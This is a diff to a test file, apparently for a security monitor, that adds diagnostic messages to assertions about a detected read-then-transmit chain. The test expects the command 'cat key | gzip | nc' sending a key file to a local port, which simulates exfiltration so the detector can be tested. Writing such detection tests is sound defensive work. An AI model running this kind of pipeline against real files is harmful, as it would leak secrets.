@@ -102,7 +102,9 @@ describe('live: read-then-transmit chains', () => {
     const f = only(r.findings);
     expect(f.source.path).toBe(key);
     expect(f.process.comm).toBe('nc');
-    expect(f.process.args).toEqual(['nc', '-N', '127.0.0.2', String(tcp.port)]);
+    // (once seen in CI without args: the message holds what the state had, to tell a late argv from a lost one)
+    const execs = r.events.filter((e) => e.kind === 'process.exec' && e.pid === f.process.pid);
+    expect(f.process.args, JSON.stringify({ execs, updates: r.findings.map((x) => [x.id, x.process.args, x.ts_ns]) })).toEqual(['nc', '-N', '127.0.0.2', String(tcp.port)]);
     // the shell that ran the pipeline started nc
     expect(f.process.ancestors![0]).toMatchObject({ pid: f.process.ppid, comm: 'bash', args: ['/bin/bash', '-c', `cat ${key} | gzip | nc -N 127.0.0.2 ${tcp.port}`] });
     expect(new Set(f.chain.map((h) => h.comm))).toEqual(new Set(['cat', 'gzip', 'nc']));
